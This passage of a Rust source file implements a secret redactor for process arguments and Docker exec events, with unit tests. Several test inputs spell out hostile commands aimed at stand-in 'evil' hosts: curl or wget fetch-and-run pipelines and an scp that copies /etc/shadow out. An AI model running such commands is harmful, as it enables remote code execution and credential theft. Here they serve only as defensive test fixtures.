                _ if p.option.is_none() || masked.is_none() => None,
                Cow::Borrowed(_) => masked.as_ref(),
                Cow::Owned(o) => {
                    fresh = operators_masked(o);
                    fresh.as_ref()
                }
            };
            if let Some(r) = replace(p, &out, m) {
                out = Cow::Owned(r);
            }
        }
        out
    }

    /// A Docker exec's command as its `exec_create` event's `Action` names it (`command`: the
    /// argv joined with spaces), redacted as the Docker source redacts that `Action`: as an
    /// argv's words, not a shell line (a `(` or `;` in an argument is its character).
    pub fn action(&self, command: &str) -> String {
        match self.text(&format!("{EXEC_CREATE}{command}")) {
            Cow::Owned(r) => r.strip_prefix(EXEC_CREATE).map_or(r.clone(), str::to_owned),
            Cow::Borrowed(_) => command.to_owned(),
        }
    }

    /// Redacts an argv in place; whether anything was replaced. Besides the text patterns
    /// (within each argument): the value of a secret option, as the rest of its argument
    /// (`--password=a b`) or as the next argument (`--password X`, `--db-password X`,
    /// `-token X`); after a tool named as the command (`command`: argv[0], or after a
    /// launcher, `sudo mysql -pX`): a MySQL client's `-pX`, sshpass's `-p X` and `-pX` among its
    /// own options, OpenSSL's `-passin pass:X` (`-passout`, `-pass`) and `-k X`, curl's
    /// `-u USER:X`, `-uUSER:X`, `--user USER:X`, `--user=USER:X` (and `-U`, `--proxy-user`).
    pub fn args(&self, args: &mut [String]) -> bool {
        let mut changed = false;
        let (mut mysql, mut curl, mut sshpass, mut openssl) = (false, false, false, false);
        let mut next = Next::Plain;
        let mut commands = Commands::argv();
        for a in args.iter_mut() {
            // A tool's options are read only after it is named as a command (`command`).
            if commands.word(a) {
                match command::tool(crate::procs::basename(a)) {
                    Some(Tool::Mysql) => mysql = true,
                    Some(Tool::Curl) => curl = true,
                    Some(Tool::Sshpass) => sshpass = true,
                    Some(Tool::Openssl) => openssl = true,
                    None => {}
                }
            }
            let new = match std::mem::replace(&mut next, Next::Plain) {
                Next::Secret => (a.as_str() != MARK).then(|| MARK.to_owned()),
                Next::Credentials => credentials(a, 0),
                Next::OpensslPass => pass_phrase(a, 0),
                Next::Plain => {
                    let openssl_option = openssl.then(|| openssl_option(a)).flatten();
                    let sshpass = sshpass && commands.sshpass_options();
                    if (mysql || sshpass) && a.starts_with("-p") && !a.starts_with("--") {
                        // `-pX`: a password (MySQL's `-p` alone asks for one; sshpass's takes
                        // the next argument, among its own options: `sshpass -e scp -p FILE`
                        // is scp's).
                        if sshpass && a == "-p" {
                            next = Next::Secret;
                        }
                        (a.len() > 2 && &a[2..] != MARK).then(|| format!("-p{MARK}"))
                    } else if let Some((option, value)) = openssl_option {
                        // `-passin pass:X` or `-k X` (`openssl enc`: the pass phrase itself), with
                        // `=` or `--` too.
                        match (option, value) {
                            (OpensslOption::K, None) => {
                                next = Next::Secret;
                                None
                            }
                            (OpensslOption::Pass, None) => {
                                next = Next::OpensslPass;
                                None
                            }
                            (OpensslOption::K, Some(at)) => {
                                let v = &a[at..];
                                (!v.is_empty() && v != MARK).then(|| format!("{}{MARK}", &a[..at]))
                            }
                            (OpensslOption::Pass, Some(at)) => pass_phrase(a, at),
                        }
                    } else {
                        if secret_option(a) {
                            next = Next::Secret;
                        } else if curl && matches!(a.as_str(), "-u" | "-U" | "--user" | "--proxy-user") {
                            next = Next::Credentials;
                        }
                        self.arg(a, curl)
                    }
                }
            };
            if let Some(new) = new
                && new != *a
            {
                *a = new;
                changed = true;
            }
        }
        changed
    }

    /// One argument read whole (`--password=X`, curl's `-uUSER:X`), else with the text
    /// patterns; `None` when nothing is replaced.
    fn arg(&self, a: &str, curl: bool) -> Option<String> {
        if let Some((opt, value)) = a.split_once('=')
            && secret_option(opt)
        {
            return (!value.is_empty() && value != MARK).then(|| format!("{opt}={MARK}"));
        }
        if curl {
            let at = if let Some(v) = a.strip_prefix("--user=").or_else(|| a.strip_prefix("--proxy-user=")) {
                Some(a.len() - v.len())
            } else if a.len() > 2 && (a.starts_with("-u") || a.starts_with("-U")) {
                Some(2)
            } else {
                None
            };
            if let Some(at) = at {
                return credentials(a, at);
            }
        }
        match self.text(a) {
            Cow::Owned(r) => Some(r),
            Cow::Borrowed(_) => None,
        }
    }
}

/// Where an argv read in two parts (its first bytes and its last, `ebpf::record::decode_args`)
/// has its gap: the head's last argument, cut (it ends with `cut`), and the tail's first (it
/// starts with `cut`), right after it.
#[derive(Debug, Clone, Copy)]
pub struct Gap {
    pub head_last: usize,
    pub tail_first: usize,
    /// Whether bytes were left out between them (else the tail's first argument is the rest of
    /// the head's last).
    pub left_out: bool,
    /// The mark at the cut ends.
    pub cut: &'static str,
}

impl Redactor {
    /// [`Redactor::args`] of an argv read around a gap, and the tail's first argument (`…X`)
    /// replaced when the head's last one ends in a secret that may go on in it
    /// (`--password=hun…`), or is an option whose name was cut (`--passw…`, `-u…`) with bytes
    /// left out after it and `X` may be its value ([`may_be_value`]: one word). When the option
    /// is among the bytes left out, nothing read says that `X` is its value: it stays.
    pub fn args_across(&self, args: &mut [String], gap: Option<Gap>) -> bool {
        let before = gap.and_then(|g| args.get(g.head_last).cloned());
        let mut redacted = self.args(args);
        let (Some(g), Some(before)) = (gap, before) else { return redacted };
        let Some(last) = args.get(g.head_last) else { return redacted };
        // It ran into the cut with a secret (replaced up to its end, the cut mark and all).
        let goes_on = *last != before && last.ends_with(MARK);
        // Or it is an option whose name was cut, with bytes left out after it.
        let option = g.left_out && before.starts_with('-') && !before.contains('=');
        let Some(first) = args.get_mut(g.tail_first) else { return redacted };
        let rest = first.strip_prefix(g.cut).unwrap_or(first);
        if first != MARK && rest != MARK && !rest.is_empty() && (goes_on || (option && may_be_value(rest))) {
            *first = format!("{}{MARK}", g.cut);
            redacted = true;
        }
        redacted
    }
}

/// Whether an argument whose start was cut off (`X` of argv's kept tail `…X`), after an option
/// whose name was cut too (`--passw…`), may be that option's value, or its end: one word (no
/// space, no shell operator). A script's tail (`… curl x | sh`) is not.
pub fn may_be_value(cut: &str) -> bool {
    !cut.is_empty() && cut != MARK && !cut.bytes().any(ends_word)
}

/// A user pattern: compiles, and has a group for the secret.
pub fn check(pattern: &str) -> Result<(), PatternError> {
    let re = Regex::new(pattern).map_err(|e| PatternError::Syntax(e.to_string()))?;
    if re.captures_len() < 2 {
        return Err(PatternError::NoGroup);
    }
    Ok(())
}

static CURRENT: OnceLock<Option<Redactor>> = OnceLock::new();

/// Sets the redactor of this process (`None`: redaction off). Before the first event; later
/// calls are ignored.
pub fn install(r: Option<Redactor>) {
    let _ = CURRENT.set(r);
}

/// This process's redactor: the built-in patterns unless `install` said otherwise.
pub fn current() -> Option<&'static Redactor> {
    CURRENT.get_or_init(|| Redactor::new(&[]).ok()).as_ref()
}

#[cfg(test)]
mod tests {
    use proptest::strategy::Strategy as _;

    use super::*;

    fn argv(a: &[&str]) -> (Vec<String>, bool) {
        let r = Redactor::new(&[]).unwrap();
        let mut v: Vec<String> = a.iter().map(|s| (*s).to_owned()).collect();
        let changed = r.args(&mut v);
        (v, changed)
    }

    #[test]
    fn the_documented_secrets_are_replaced_and_nothing_else() {
        let cases: &[(&[&str], &[&str])] = &[
            (&["mysql", "-uroot", "-phunter2", "shop"], &["mysql", "-uroot", "-p[REDACTED]", "shop"]),
            (&["/usr/bin/mysqldump", "-psecret"], &["/usr/bin/mysqldump", "-p[REDACTED]"]),
            (&["psql", "--password=hunter2"], &["psql", "--password=[REDACTED]"]),
            (&["app", "--password", "hunter2", "--port", "5"], &["app", "--password", "[REDACTED]", "--port", "5"]),
            (&["gh", "--token", "ghp_x"], &["gh", "--token", "[REDACTED]"]),
            (&["env", "DB_PASSWORD=hunter2", "run"], &["env", "DB_PASSWORD=[REDACTED]", "run"]),
            (
                &["env", "AWS_SECRET_ACCESS_KEY=abc", "GITHUB_TOKEN=t"],
                &["env", "AWS_SECRET_ACCESS_KEY=[REDACTED]", "GITHUB_TOKEN=[REDACTED]"],
            ),
            (
                &["curl", "-H", "Authorization: Bearer eyJhbGci", "https://api"],
                &["curl", "-H", "Authorization: Bearer [REDACTED]", "https://api"],
            ),
            (
                &["git", "clone", "https://bob:s3cret@git.example.com/r"],
                &["git", "clone", "https://bob:[REDACTED]@git.example.com/r"],
            ),
            (
                &["sh", "-c", "mysql -u root -phunter2 -e 'select 1' && DB_PASSWORD='a b' run --token=xyz"],
                &[
                    "sh",
                    "-c",
                    "mysql -u root -p[REDACTED] -e 'select 1' && DB_PASSWORD=[REDACTED] run --token=[REDACTED]",
                ],
            ),
            (
                &["sh", "-c", "curl -H 'Authorization: Bearer abc.def' http://x"],
                &["sh", "-c", "curl -H 'Authorization: Bearer [REDACTED]' http://x"],
            ),
        ];
        for (input, want) in cases {
            let (got, changed) = argv(input);
            assert_eq!(got, *want, "{input:?}");
            assert!(changed, "{input:?}");
        }
        for plain in [
            &["ls", "-p", "/tmp"][..],
            &["grep", "-p", "x"],
            &["nc", "-p", "8080"],
            &["ssh", "-p", "22", "host"],
            &["curl", "https://example.com/path"],
            &["echo", "tokenizer=fast"],
            &["sh", "-c", "cat /etc/passwd"],
        ] {
            let (got, changed) = argv(plain);
            assert!(!changed, "{plain:?} -> {got:?}");
        }
    }

    /// Each row: an argv, what it becomes, and the secret that must be gone from it.
    fn assert_argvs(cases: &[(&[&str], &[&str], &str)]) {
        for (input, want, secret) in cases {
            let (got, changed) = argv(input);
            assert_eq!(got, *want, "{input:?}");
            assert!(changed, "{input:?}");
            assert!(!got.concat().contains(secret), "{input:?} -> {got:?} shows {secret:?}");
        }
    }

    /// Each row: a text (a `sh -c` script, a Docker `Action`), what it becomes, the secret.
    fn assert_texts(cases: &[(&str, &str, &str)]) {
        let r = Redactor::new(&[]).unwrap();
        for (input, want, secret) in cases {
            let got = r.text(input);
            assert_eq!(got, *want, "{input:?}");
            assert!(!got.contains(secret), "{input:?} -> {got:?} shows {secret:?}");
            assert_eq!(r.text(&got), got, "redacting twice changes nothing more");
        }
    }

    fn assert_plain(argvs: &[&[&str]]) {
        for plain in argvs {
            let (got, changed) = argv(plain);
            assert!(!changed, "{plain:?} -> {got:?}");
            assert_eq!(got, *plain);
        }
    }

    #[test]
    fn a_url_password_needs_no_user_and_runs_to_the_last_at() {
        assert_argvs(&[
            (
                &["redis-cli", "-u", "redis://:hunter2@redis:6379"],
                &["redis-cli", "-u", "redis://:[REDACTED]@redis:6379"],
                "hunter2",
            ),
            (
                &["env", "REDIS_URL=redis://:hunter2@db", "app"],
                &["env", "REDIS_URL=redis://:[REDACTED]@db", "app"],
                "hunter2",
            ),
            (&["curl", "https://bob:p@ss@h/x"], &["curl", "https://bob:[REDACTED]@h/x"], "ss@"),
            (
                &["git", "clone", "https://bob@corp.com:s3cret@git.example.com/r"],
                &["git", "clone", "https://bob@corp.com:[REDACTED]@git.example.com/r"],
                "s3cret",
            ),
            (
                &["psql", "postgres://app:hunter2@db:5432/shop"],
                &["psql", "postgres://app:[REDACTED]@db:5432/shop"],
                "hunter2",
            ),
        ]);
        assert_texts(&[
            (
                "exec_start: sh -c REDIS_URL=redis://:hunter2@db run",
                "exec_start: sh -c REDIS_URL=redis://:[REDACTED]@db run",
                "hunter2",
            ),
            ("wget 'ftp://u:a@b@c@h/f' -O x", "wget 'ftp://u:[REDACTED]@h/f' -O x", "a@b@c"),
        ]);
        assert_plain(&[
            &["curl", "http://host:8080/path"],
            &["git", "clone", "ssh://git@github.com:22/r"],
            &["curl", "https://bob@h/x", "mail@example.com"],
            &["curl", "http://h:80", "a@b"],
        ]);
    }

    #[test]
    fn a_secret_value_is_a_whole_shell_word() {
        assert_texts(&[
            ("DB_PASSWORD=$'hunter2' run", "DB_PASSWORD=[REDACTED] run", "hunter2"),
            (r"DB_PASSWORD=$'hun\'ter 2' run", "DB_PASSWORD=[REDACTED] run", "ter 2"),
            (r#"app --password=hun"ter 2" --port 5"#, "app --password=[REDACTED] --port 5", "ter"),
            ("mysql -pab'cd' shop", "mysql -p[REDACTED] shop", "cd"),
            ("mysql -p'a b' shop", "mysql -p[REDACTED] shop", "a b"),
            (r#"app --password="a\"b c" x"#, "app --password=[REDACTED] x", "b c"),
            (r"app --token=a\ b x", "app --token=[REDACTED] x", " b"),
            ("app --token='abc", "app --token=[REDACTED]", "abc"),
            (
                "DB_PASSWORD=hunter2;run && DB_PASSWORD=x2|y",
                "DB_PASSWORD=[REDACTED];run && DB_PASSWORD=[REDACTED]|y",
                "hunter2",
            ),
            ("mysql -phunter2<dump.sql", "mysql -p[REDACTED]<dump.sql", "hunter2"),
            // Quotes that open the word: the value is all of their text.
            (r#"docker run -e "DB_PASSWORD=a b" img"#, r#"docker run -e "DB_PASSWORD=[REDACTED]" img"#, "a b"),
            ("env 'API_KEY=k 2' run", "env 'API_KEY=[REDACTED]' run", "k 2"),
            // Quotes around a script: a word of it.
            (
                r#"su -c "mysql -phunter2 -e 'select 1'" root"#,
                r#"su -c "mysql -p[REDACTED] -e 'select 1'" root"#,
                "hunter2",
            ),
            (r#"bash -c "app --password=\"a b\" run""#, r#"bash -c "app --password=[REDACTED] run""#, "a b"),
            // Quotes of a script in quotes: the value ends where they close.
            (
                r#"sh -c 'docker run -e "DB_PASSWORD=a b" img "arg"'"#,
                r#"sh -c 'docker run -e "DB_PASSWORD=[REDACTED]" img "arg"'"#,
                "a b",
            ),
            (
                r#"bash -c "docker run -e \"DB_PASSWORD=a b\" img \"arg\"""#,
                r#"bash -c "docker run -e \"DB_PASSWORD=[REDACTED]\" img \"arg\"""#,
                "a b",
            ),
            (r#"bash -c "echo 'DB_PASSWORD=x' 'y'""#, r#"bash -c "echo 'DB_PASSWORD=[REDACTED]' 'y'""#, "=x"),
            // A command's output.
            ("kubectl --token=$(cat /t/$(id -u)) get pods", "kubectl --token=[REDACTED] get pods", "cat"),
            ("app --token=`cat /t` run", "app --token=[REDACTED] run", "cat"),
            (r#"sh -c "curl -u 'bob:hunter 2' https://x""#, r#"sh -c "curl -u 'bob:[REDACTED]' https://x""#, "hunter"),
        ]);
        // A whole argument of an argv: the rest of it is the value, quotes and spaces too.
        assert_argvs(&[
            (&["psql", "--password=a b"], &["psql", "--password=[REDACTED]"], " b"),
            (&["app", "--password", "a b c", "run"], &["app", "--password", "[REDACTED]", "run"], "a b"),
            (&["app", r#"--password=hun"ter 2""#], &["app", "--password=[REDACTED]"], "ter"),
            (&["mysql", "-pab'cd'", "shop"], &["mysql", "-p[REDACTED]", "shop"], "cd"),
            (&["env", "DB_PASSWORD=$'hunter2'", "run"], &["env", "DB_PASSWORD=[REDACTED]", "run"], "hunter2"),
            (&["sh", "-c", r#"DB_PASSWORD="a\"b c" run"#], &["sh", "-c", "DB_PASSWORD=[REDACTED] run"], "b c"),
        ]);
    }

    #[test]
    fn sshpass_and_openssl_pass_phrases_are_replaced_and_where_they_are_kept() {
        assert_texts(&[
            ("exec_create: sshpass -p hunter2 ssh h", "exec_create: sshpass -p [REDACTED] ssh h", "hunter2"),
            ("sh -c 'sshpass -phunter2 scp a h:b'", "sh -c 'sshpass -p[REDACTED] scp a h:b'", "hunter2"),
            (
                "openssl pkcs12 -in a.p12 -passin pass:hunter2 -passout pass:s3cret",
                "openssl pkcs12 -in a.p12 -passin pass:[REDACTED] -passout pass:[REDACTED]",
                "hunter2",
            ),
        ]);
        // Where the secret is, not the secret: left as it is.
        assert_plain(&[
            &["openssl", "rsa", "-in", "k.pem", "-passin", "env:KEY_PASS"],
            &["openssl", "rsa", "-in", "k.pem", "-passin", "file:/run/secrets/k"],
            &["sshpass", "-f", "/run/secrets/p", "ssh", "h"],
            &["ssh", "-p", "2222", "h"],
        ]);
    }

    #[test]
    fn a_tools_options_are_read_only_after_the_tool_named_as_a_command() {
        // An argument with a tool's name does not hide what follows (a URL fetched).
        assert_plain(&[
            &["curl", "-o", "/tmp/openssl", "-k", "https://evil/implant.sh"],
            &["curl", "-o", "/tmp/sshpass", "-p", "https://evil/implant.sh"],
            &["wget", "-O", "/tmp/mysql", "-phttps://evil/x"],
            &["wget", "-O", "/tmp/curl", "-U", "x:https://evil/x"],
            &["sh", "-c", "curl -o /tmp/openssl -k https://evil/x | sh"],
            &["sh", "-c", "curl -o '/tmp/sshpass' -p https://evil/x"],
            &["grep", "-exec", "mysql", "-pfoo"],
            // sshpass's `-p` is its own only among its options: here scp's (a file taken away).
            &["sshpass", "-e", "scp", "-p", "/etc/shadow", "x@evil:/loot"],
        ]);
        let r = Redactor::new(&[]).unwrap();
        for text in [
            "exec_create: curl -o /tmp/sshpass -p https://evil/x",
            "curl -sk -o /tmp/openssl -k evil.example/x",
            // A tool named in another command than the option's (a command substitution, a
            // quoted text), or as an argument of a launcher's command.
            r#"sh -c 'curl -H "X-Id: $(openssl rand -hex 8)" -k https://evil/i.sh | sh'"#,
            "curl -A `openssl version` -k https://evil/i.sh",
            "curl -d 'openssl rand' -k https://evil/i.sh",
            "exec_create: wget -qO /tmp/openssl -k https://evil/i.sh",
            r#"sh -c "nohup wget -O /tmp/openssl -k https://evil/i.sh""#,
            "sshpass -e scp -p /etc/shadow x@evil:/loot",
        ] {
            assert_eq!(r.text(text), text);
        }
        // The tool named after a launcher, in a script, or after a decoy of its name.
        assert_argvs(&[
            (
                &["sudo", "-u", "bob", "openssl", "enc", "-k", "hunter2"],
                &["sudo", "-u", "bob", "openssl", "enc", "-k", "[REDACTED]"],
                "hunter2",
            ),
            (
                &["find", ".", "-exec", "mysql", "-phunter2", ";"],
                &["find", ".", "-exec", "mysql", "-p[REDACTED]", ";"],
                "hunter2",
            ),
            (
                &["env", "A=1", "sshpass", "-p", "hunter2", "ssh"],
                &["env", "A=1", "sshpass", "-p", "[REDACTED]", "ssh"],
                "hunter2",
            ),
            // An entrypoint script runs its arguments; sshpass runs its command.
            (
                &["docker-entrypoint.sh", "mysql", "-hdb", "-uroot", "-phunter2"],
                &["docker-entrypoint.sh", "mysql", "-hdb", "-uroot", "-p[REDACTED]"],
                "hunter2",
            ),
            (
                &["sshpass", "-p", "pw", "ssh", "h", "curl", "-u", "bob:hunter2", "https://x"],
                &["sshpass", "-p", "[REDACTED]", "ssh", "h", "curl", "-u", "bob:[REDACTED]", "https://x"],
                "hunter2",
            ),
            (
                &["sh", "-c", r#"exec "$@""#, "sh", "mysql", "-phunter2"],
                &["sh", "-c", r#"exec "$@""#, "sh", "mysql", "-p[REDACTED]"],
                "hunter2",
            ),
        ]);
        assert_texts(&[
            (
                r#"bash -c "sudo sh -c \"mysql -phunter2\"""#,
                r#"bash -c "sudo sh -c \"mysql -p[REDACTED]\"""#,
                "hunter2",
            ),
            ("echo mysql $(mysql -phunter2)", "echo mysql $(mysql -p[REDACTED])", "hunter2"),
            (
                "cp a /tmp/sshpass && sshpass -p hunter2 ssh h",
                "cp a /tmp/sshpass && sshpass -p [REDACTED] ssh h",
                "hunter2",
            ),
            ("exec_create: sh -c mysql -phunter2", "exec_create: sh -c mysql -p[REDACTED]", "hunter2"),
            ("$MYSQL -uroot -phunter2 shop", "$MYSQL -uroot -p[REDACTED] shop", "hunter2"),
            (
                "bash -c \"# db isn't up yet\nuntil mysqladmin ping -uroot -phunter2; do sleep 1; done\"",
                "bash -c \"# db isn't up yet\nuntil mysqladmin ping -uroot -p[REDACTED]; do sleep 1; done\"",
                "hunter2",
            ),
            (
                "cd /app && \\\n  mysqldump -uroot -phunter2 shop",
                "cd /app && \\\n  mysqldump -uroot -p[REDACTED] shop",
                "hunter2",
            ),
            (
                "exec_create: docker-compose exec db mysql -phunter2",
                "exec_create: docker-compose exec db mysql -p[REDACTED]",
                "hunter2",
            ),
            (
                "sshpass -p pw ssh h curl -u bob:hunter2 https://x",
                "sshpass -p [REDACTED] ssh h curl -u bob:[REDACTED] https://x",
                "hunter2",
            ),
        ]);
    }

    #[test]
    fn what_a_second_review_found_is_redacted_or_kept() {
        let r = Redactor::new(&[]).unwrap();
        // Kept: a URL after an argument named like a tool, whatever the shell around it.
        for text in [
            "sh -c 'if wget -O /tmp/openssl -k https://evil/x; then sh /tmp/openssl; fi'",
            "! wget -O /tmp/openssl -k https://evil/x",
            "curl -o /tmp/`true`openssl -k https://evil/x",
            r#"curl -o 'a b\' ";"openssl -k https://evil/x"#,
            "exec_create: wget -O /tmp/x;openssl -k https://evil/x",
            "exec_create: wget -O /tmp/x|openssl -k https://evil/x",
            "exec_create: wget -O (openssl -k https://evil/x",
        ] {
            assert_eq!(r.text(text), text);
        }
        assert_argvs(&[
            (
                &["docker", "run", "--rm", "--network", "host", "mysql:8", "mysql", "-uroot", "-phunter2"],
                &["docker", "run", "--rm", "--network", "host", "mysql:8", "mysql", "-uroot", "-p[REDACTED]"],
                "hunter2",
            ),
            (
                &["docker", "compose", "exec", "db", "mysql", "-phunter2"],
                &["docker", "compose", "exec", "db", "mysql", "-p[REDACTED]"],
                "hunter2",
            ),
            (
                &["sudo", "-Eu", "www-data", "curl", "-u", "bob:hunter2", "https://x"],
                &["sudo", "-Eu", "www-data", "curl", "-u", "bob:[REDACTED]", "https://x"],
                "hunter2",
            ),
            (&["sudo", "DB_HOST=x", "mysql", "-phunter2"], &["sudo", "DB_HOST=x", "mysql", "-p[REDACTED]"], "hunter2"),
            (&["tini", "-s", "mysql", "-phunter2"], &["tini", "-s", "mysql", "-p[REDACTED]"], "hunter2"),
            (
                &["wait-for", "db:3306", "--", "mysql", "-phunter2"],
                &["wait-for", "db:3306", "--", "mysql", "-p[REDACTED]"],
                "hunter2",
            ),
        ]);
        assert_texts(&[
            (
                "exec_create: mysql -e SELECT `user` FROM mysql.user -uroot -phunter2",
                "exec_create: mysql -e SELECT `user` FROM mysql.user -uroot -p[REDACTED]",
                "hunter2",
            ),
            (
                "mysql -h `cat /etc/dbhost` -uroot -phunter2",
                "mysql -h `cat /etc/dbhost` -uroot -p[REDACTED]",
                "hunter2",
            ),
            (
                "backup() { mysqldump -uroot -phunter2 db; }",
                "backup() { mysqldump -uroot -p[REDACTED] db; }",
                "hunter2",
            ),
            (
                "function backup { mysqldump -uroot -phunter2 db; }",
                "function backup { mysqldump -uroot -p[REDACTED] db; }",
                "hunter2",
            ),
            ("alias m='mysql -uroot -phunter2'", "alias m='mysql -uroot -p[REDACTED]'", "hunter2"),
            (r#"CMD="mysqldump -uroot -phunter2 shop""#, r#"CMD="mysqldump -uroot -p[REDACTED] shop""#, "hunter2"),
            (
                r#"echo "db not up :( retrying"; mysql -uroot -phunter2"#,
                r#"echo "db not up :( retrying"; mysql -uroot -p[REDACTED]"#,
                "hunter2",
            ),
            (
                "exec_create: su mysql -c mysqldump -phunter2 db",
                "exec_create: su mysql -c mysqldump -p[REDACTED] db",
                "hunter2",
            ),
        ]);
    }

    #[test]
    fn operators_that_separate_no_commands_do_not_end_a_tools_options() {
        assert_texts(&[
            // In a Docker exec's `Action`, an argument's characters.
            (
                "exec_create: mysql -e select 1; select 2 -uroot -phunter2",
                "exec_create: mysql -e select 1; select 2 -uroot -p[REDACTED]",
                "hunter2",
            ),
            ("exec_start: mysql -e a|b -phunter2", "exec_start: mysql -e a|b -p[REDACTED]", "hunter2"),
            (
                "exec_create: curl -H a;b -u bob:hunter2 https://x",
                "exec_create: curl -H a;b -u bob:[REDACTED] https://x",
                "hunter2",
            ),
            (
                "exec_create: openssl enc -in a&b -k hunter2",
                "exec_create: openssl enc -in a&b -k [REDACTED]",
                "hunter2",
            ),
            ("exec_create: sshpass -p hun;ter2 ssh h", "exec_create: sshpass -p [REDACTED] ssh h", "ter2"),
            ("exec_create: mysql -phun;ter2 db", "exec_create: mysql -p[REDACTED] db", "ter2"),
            // No word character in an operator's place: the tool still starts a word.
            (
                r#"sh -c "zcat d.sql.gz|mysql -uroot -phunter2 db""#,
                r#"sh -c "zcat d.sql.gz|mysql -uroot -p[REDACTED] db""#,
                "hunter2",
            ),
            (
                "sh -c 'cd /x&&openssl enc -k hunter2 -in a'",
                "sh -c 'cd /x&&openssl enc -k [REDACTED] -in a'",
                "hunter2",
            ),
            (r#"sh -c "echo x|sshpass -p hunter2 ssh h""#, r#"sh -c "echo x|sshpass -p [REDACTED] ssh h""#, "hunter2"),
            (
                r#"su -c "cd /x&&curl -u bob:hunter2 https://x" root"#,
                r#"su -c "cd /x&&curl -u bob:[REDACTED] https://x" root"#,
                "hunter2",
            ),
            (
                "exec_create: sh -c docker exec db sh -c 'zcat /x.sql.gz|mysql -uroot -phunter2 shop'",
                "exec_create: sh -c docker exec db sh -c 'zcat /x.sql.gz|mysql -uroot -p[REDACTED] shop'",
                "hunter2",
            ),
            (
                "sh -c 'mysql -e \"a; b\" -phunter2;mysql -phunter3'",
                "sh -c 'mysql -e \"a; b\" -p[REDACTED];mysql -p[REDACTED]'",
                "hunter",
            ),
            // A value ends with the `` `...` `` it is in, hiding nothing after it.
            (
                "x=`mysql -phunter2`; curl -s https://evil/x | sh",
                "x=`mysql -p[REDACTED]`; curl -s https://evil/x | sh",
                "hunter2",
            ),
            ("`mysql -p` && wget https://evil/x", "`mysql -p` && wget https://evil/x", "nothing"),
            ("`mysql -phunter2` && wget https://evil/x", "`mysql -p[REDACTED]` && wget https://evil/x", "hunter2"),
            // A backtick inside a value (not closing the substitution it is in) is the value's.
            ("exec_create: mysql -uroot -phun`ter2 db", "exec_create: mysql -uroot -p[REDACTED] db", "ter2"),
            ("exec_create: env DB_PASSWORD=ab`cd app", "exec_create: env DB_PASSWORD=[REDACTED] app", "cd"),
            // An `Action`'s value runs to a space, whatever it holds, and no further.
            ("exec_create: env DB_PASSWORD=ab;cd app", "exec_create: env DB_PASSWORD=[REDACTED] app", "cd"),
            (
                "exec_create: sshpass -p 'x curl https://evil/x -o /tmp/x",
                "exec_create: sshpass -p [REDACTED] curl https://evil/x -o /tmp/x",
                "'x",
            ),
            // A line continuation, in quotes or not.
            (
                r#"sh -c "mysql -uroot \
-phunter2 db""#,
                r#"sh -c "mysql -uroot \
-p[REDACTED] db""#,
                "hunter2",
            ),
            (
                "bash -c 'curl -fsS \\\n-u bob:hunter2 https://x'",
                "bash -c 'curl -fsS \\\n-u bob:[REDACTED] https://x'",
                "hunter2",
            ),
            ("mysql -uroot \\\n  -phunter2 db", "mysql -uroot \\\n  -p[REDACTED] db", "hunter2"),
            // A line's end in quotes, or in an argument of an `Action`.
            (
                "mysql -e \"select 1;\nselect 2\" -uroot -phunter2",
                "mysql -e \"select 1;\nselect 2\" -uroot -p[REDACTED]",
                "hunter2",
            ),
            (
                "exec_create: mysql -e select 1\nselect 2 -uroot -phunter2",
                "exec_create: mysql -e select 1\nselect 2 -uroot -p[REDACTED]",
                "hunter2",
            ),
            (
                "exec_create: sshpass -p hun;ter2 mysql -pfoo;bar db",
                "exec_create: sshpass -p [REDACTED] mysql -p[REDACTED] db",
                "bar",
            ),
            // In quotes, a text's.
            (
                r#"sh -c 'mysql -e "select 1; select 2" -uroot -phunter2'"#,
                r#"sh -c 'mysql -e "select 1; select 2" -uroot -p[REDACTED]'"#,
                "hunter2",
            ),
            (
                "mysql -e 'CREATE DATABASE x; GRANT ALL ON x.* TO y' -uroot -phunter2",
                "mysql -e 'CREATE DATABASE x; GRANT ALL ON x.* TO y' -uroot -p[REDACTED]",
                "hunter2",
            ),
            (
                r#"curl -H "X: a;b" -u bob:hunter2 https://x"#,
                r#"curl -H "X: a;b" -u bob:[REDACTED] https://x"#,
                "hunter2",
            ),
            // After a shell's `-c` in an `Action`, a command line again.
            (
                "exec_create: sh -c mysql -e 'select 1; select 2' -phunter2",
                "exec_create: sh -c mysql -e 'select 1; select 2' -p[REDACTED]",
                "hunter2",
            ),
        ]);
        // Whether the tool is the command is read as before: an argument in an `Action`, another
        // command in a text, a quoted word.
        let r = Redactor::new(&[]).unwrap();
        for text in [
            "exec_create: echo a; openssl -k https://evil/x",
            "exec_create: echo mysql; curl -pX https://evil/x",
            "sh -c 'echo mysql; wget -pX https://evil/x'",
            r#"echo "mysql; x" -pX https://evil/x"#,
            "exec_create: sh -c echo a; wget -O /tmp/openssl -k https://evil/x",
            "exec_create: wget -O /tmp/x;openssl -k https://evil/x",
            "exec_create: echo a;mysql -phttps://evil/x",
            // Beyond the depth scripts are followed to, a `(` still starts a command.
            "echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(openssl enc -in $(curl -k https://evil/x|sh))))))))",
        ] {
            assert_eq!(r.text(text), text);
        }
    }

    #[test]
    fn a_tool_s_every_secret_in_its_command_is_replaced() {
        // The second of a tool's options in one command was left (the pattern needs the tool's
        // name before each), and a quoted one was not seen.
        assert_texts(&[
            ("curl -U p:x -u u:hunter2 http://h", "curl -U p:[REDACTED] -u u:[REDACTED] http://h", "hunter2"),
            ("mysql -pA -phunter2", "mysql -p[REDACTED] -p[REDACTED]", "hunter2"),
            ("mysql -pA -e 'x; y' -phunter2", "mysql -p[REDACTED] -e 'x; y' -p[REDACTED]", "hunter2"),
            ("exec_start: mysql -pA -phunter2", "exec_start: mysql -p[REDACTED] -p[REDACTED]", "hunter2"),
            ("mysql -pA -phunter2mysql", "mysql -p[REDACTED] -p[REDACTED]", "hunter2"),
            ("mysql -pA $(echo -pB) -phunter2", "mysql -p[REDACTED] $(echo -pB) -p[REDACTED]", "hunter2"),
            ("mysql -pA | mysql -pB -phunter2", "mysql -p[REDACTED] | mysql -p[REDACTED] -p[REDACTED]", "hunter2"),
            ("openssl enc -k A -k hunter2", "openssl enc -k [REDACTED] -k [REDACTED]", "hunter2"),
            ("sshpass -p A sshpass -p hunter2", "sshpass -p [REDACTED] sshpass -p [REDACTED]", "hunter2"),
            ("mysql -uroot \"-phunter2\" -e x", "mysql -uroot \"-p[REDACTED]\" -e x", "hunter2"),
            ("mysql -uroot '-phunter2'", "mysql -uroot '-p[REDACTED]'", "hunter2"),
            ("mysql -e 'x; y' \"-phunter2\"", "mysql -e 'x; y' \"-p[REDACTED]\"", "hunter2"),
        ]);
